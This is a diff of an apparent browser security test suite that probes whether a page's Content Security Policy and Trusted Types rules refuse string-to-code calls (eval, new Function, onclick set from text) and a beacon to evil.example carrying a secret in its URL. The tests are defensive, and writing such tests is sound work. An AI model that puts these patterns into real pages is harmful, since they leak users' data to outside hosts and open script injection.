@@ -28,6 +28,7 @@ async function tryEverything(): Promise<Record<string, string>> {
     'a handler from text': () => document.body.setAttribute('onclick', 'hacked = 1'),
     // oxlint-disable-next-line no-eval -- whether it works is the question
     'code from text': () => eval('1'),
+    // oxlint-disable-next-line typescript/no-implied-eval -- what the policy must refuse
     'a function from text': () => new Function('return 1')(),
     'a rule that calls text safe': () => (window as any).trustedTypes.createPolicy('mine', {}),
     'such a rule for everything': () => (window as any).trustedTypes.createPolicy('default', {}),
@@ -104,11 +105,10 @@ test('E4: what a page refused stands in the log of the server, and who was there
   const { context, page } = await sitDown(browser)
   const other = at('[::1]')
   await page.goto(`${other}/login?next=/a-secret-of-somebody`)
-  await page.evaluate(
-    () =>
-      void document.body.append(
-        Object.assign(new Image(), { src: 'https://evil.example/seen.png?a-secret-of-somebody' }),
-      ),
+  await page.evaluate(() =>
+    document.body.append(
+      Object.assign(new Image(), { src: 'https://evil.example/seen.png?a-secret-of-somebody' }),
+    ),
   )
   const told = () =>
     server
